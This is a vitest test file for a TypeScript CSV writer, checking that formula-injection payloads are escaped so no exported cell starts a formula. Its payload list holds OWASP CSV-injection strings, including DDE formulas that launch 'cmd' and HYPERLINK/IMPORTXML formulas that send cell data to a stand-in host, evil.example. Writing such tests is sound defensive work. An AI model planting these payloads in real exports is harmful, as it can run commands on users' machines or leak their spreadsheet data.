import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { csvLine, toCsv } from './csv.server'

/** OWASP "CSV Injection" payloads, plus the same behind a separator a spreadsheet may split on. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1, "Click")`,
  `=1+2";=1+2`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `DDE ("cmd";"/C calc";"!A0")A0`,
  `\t=1+1`,
  `\r=1+1`,
  `ACME;=cmd|' /C calc'!A0`,
  `ACME,=cmd|' /C calc'!A0`,
  `ACME\t=cmd|' /C calc'!A0`,
  `ACME; @SUM(1+1)`,
  `"quoted";=1+1`,
]
const FORMULA = /^[=+\-@\t\r]/

describe('the one CSV writer', () => {
  test('no OWASP payload becomes a cell that starts a formula, whichever separator a spreadsheet splits on', () => {
    const csv = toCsv([{ header: 'name', value: (r: string) => r }, { header: 'qty', value: () => -3.5 }], PAYLOADS)
    for (const delimiter of [',', ';', '\t']) {
      const rows = Papa.parse<string[]>(csv, { delimiter }).data
      for (const row of rows.slice(1)) {
        for (const cell of row) if (cell !== '-3.5' && !cell.endsWith('-3.5')) expect(cell, `${delimiter} ${JSON.stringify(cell)}`).not.toMatch(FORMULA)
      }
    }
  })

  test('each payload reads back as one cell with its text intact behind the apostrophe', () => {
    const csv = toCsv([{ header: 'name', value: (r: string) => r }], PAYLOADS)
    const cells = Papa.parse<string[]>(csv, { delimiter: ',' }).data.slice(1).map((r) => r[0])
    expect(cells).toEqual(PAYLOADS.map((p) => (FORMULA.test(p) ? `'${p}` : p)))
  })

  test('numbers stay numeric, a separator inside text is quoted, streamed lines match whole files', () => {
    expect(csvLine(['ACME;=x', -3.5, null, 'plain'])).toBe(`"ACME;=x",-3.5,,plain\r\n`)
    const columns = [{ header: 'a', value: (r: [string, number]) => r[0] }, { header: 'b', value: (r: [string, number]) => r[1] }]
    const rows: [string, number][] = [['x, y', 1], ['z', 2]]
    expect(toCsv(columns, rows) + '\r\n').toBe(csvLine(['a', 'b']) + rows.map((r) => csvLine(r)).join(''))
  })
})
